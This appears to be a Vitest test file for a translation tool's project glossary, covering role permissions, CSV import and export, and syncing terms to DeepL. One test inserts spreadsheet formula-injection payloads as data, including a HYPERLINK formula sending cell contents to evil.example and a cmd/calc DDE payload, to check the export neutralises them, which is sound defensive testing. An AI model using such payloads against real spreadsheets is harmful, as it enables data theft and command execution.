import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { deeplTranslator } from '../../src/providers/mt/deepl';
import { type DeepLStandIn, startDeepLStandIn } from '../helpers/deepl-stand-in';
import { importText, segmentsOf, type TestApp, testApp } from '../helpers/test-app';

let deepl: DeepLStandIn;
let t: TestApp;
let projectId: number;
beforeEach(async () => {
  deepl = await startDeepLStandIn();
  t = await testApp({ machineTranslator: deeplTranslator({ authKey: deepl.authKey, serverUrl: deepl.url, maxRetries: 1 }) });
  projectId = (await t.services.projects.create({ name: 'Newsroom' }, undefined, { name: 'camille' })).id;
});
afterEach(async () => {
  await t.cleanup();
  await deepl.close();
});

const send = (method: string, path: string, body: unknown, as = t.app) => as.request(path, { method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const upload = (content: string, name = 'glossary.csv') => {
  const form = new FormData();
  form.append('file', new File([content], name));
  return t.app.request(`/api/projects/${projectId}/glossary/import`, { method: 'POST', body: form });
};
const list = async () => ((await (await t.app.request(`/api/projects/${projectId}/glossary`)).json()) as { items: { id: number; source: string; target: string; notes: string }[] }).items;

describe('the glossary', () => {
  it('is kept by reviewers and owners, read by everyone in the project, one entry per French term', async () => {
    const reviewer = await t.user('renee', 'reviewer', projectId);
    const translator = await t.user('sacha', 'translator', projectId);
    const added = await send('POST', `/api/projects/${projectId}/glossary`, { source: 'Assemblée nationale', target: 'National Assembly', notes: 'Capitalised.' }, reviewer);
    expect(added.status).toBe(201);
    const term = (await added.json()) as { id: number };
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'assemblée NATIONALE', target: 'x' })).status).toBe(409);
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect' }, translator)).status).toBe(403);
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: '  ', target: 'x' })).status).toBe(400);
    expect(await (await translator.request(`/api/projects/${projectId}/glossary`)).json()).toMatchObject({ items: [{ source: 'Assemblée nationale', target: 'National Assembly', notes: 'Capitalised.' }] });
    expect(await (await send('PATCH', `/api/glossary/${term.id}`, { target: 'French National Assembly' }, reviewer)).json()).toMatchObject({ target: 'French National Assembly' });
    expect((await t.app.request(`/api/glossary/${term.id}`, { method: 'DELETE' })).status).toBe(204);
    expect(await list()).toEqual([]);
  });

  it('exports and imports CSV, updating existing terms, all or nothing', async () => {
    await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect', notes: 'Not "prefect" of a school, a state official.' });
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
    expect(csv).toBe('source,target,notes\npréfet,prefect,"Not ""prefect"" of a school, a state official."\n');
    expect(await (await upload('préfet;Prefect\nmairie;town hall\n')).json()).toEqual({ added: 1, updated: 1 });
    expect((await list()).map((term) => [term.source, term.target])).toEqual([
      ['mairie', 'town hall'],
      ['préfet', 'Prefect'],
    ]);
    const bad = await upload('source,target\nconseil,council\nsans traduction,\n');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { detail: string }).detail).toContain('Line 2');
    expect(await list()).toHaveLength(2);
  });

  it('neutralises spreadsheet formulas in the CSV export and reads its own export back unchanged', async () => {
    const dangerous = [
      { source: '=HYPERLINK("http://evil.example/?"&A1,"cliquez")', target: 'click', notes: '=1+1' },
      { source: "+cmd|' /C calc'!A0", target: 'calculator', notes: '' },
      { source: '@SUM(1+1)', target: '@mention', notes: '-2+3+cmd' },
      { source: '-ième', target: '-th', notes: 'suffixe ordinal' },
      { source: "'=déjà protégé", target: "'quoted'", notes: '' },
    ];
    for (const term of dangerous) expect((await send('POST', `/api/projects/${projectId}/glossary`, term)).status).toBe(201);
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
    const cells = csv
      .trim()
      .split('\n')
      .slice(1)
      .flatMap((line) => line.split(','))
      .map((cell) => cell.replace(/^"/u, ''));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
    expect(csv).toContain("'-ième,'-th,suffixe ordinal");
    expect(csv).toContain("'+cmd|' /C calc'!A0,calculator,");

    // The same terms in another project, from the export alone.
    const other = (await t.services.projects.create({ name: 'Copie' }, undefined, { name: 'camille' })).id;
    const form = new FormData();
    form.append('file', new File([csv], 'glossary.csv'));
    expect(await (await t.app.request(`/api/projects/${other}/glossary/import`, { method: 'POST', body: form })).json()).toEqual({ added: 5, updated: 0 });
    const copied = ((await (await t.app.request(`/api/projects/${other}/glossary`)).json()) as { items: { source: string; target: string; notes: string }[] }).items;
    const pick = (terms: { source: string; target: string; notes: string }[]) =>
      terms.map(({ source, target, notes }) => ({ source, target, notes })).sort((a, b) => a.source.localeCompare(b.source));
    expect(pick(copied)).toEqual(pick(dangerous));
  });

  it('goes to DeepL as a glossary with the translations, and again when it changes', async () => {
    const id = await importText(t.app, 'Le préfet a parlé.', 'txt', 'Brève', projectId);
    const [segment] = (await segmentsOf(t.app, id)).items;
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    expect(deepl.translations()[0]!.form.get('glossary_id')).toBeNull();
    const term = (await (await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect' })).json()) as { id: number };
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    const first = deepl.translations()[1]!.form.get('glossary_id');
    expect(first).toMatch(/^glossary-/u);
    expect([...deepl.glossaries.values()]).toEqual([expect.objectContaining({ source_lang: 'fr', target_lang: 'en', entries: 'préfet\tprefect' })]);
    await send('PATCH', `/api/glossary/${term.id}`, { target: 'Prefect' });
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    const second = deepl.translations()[2]!.form.get('glossary_id');
    expect(second).not.toBe(first);
    expect([...deepl.glossaries.keys()]).toEqual([second]);
  });
});
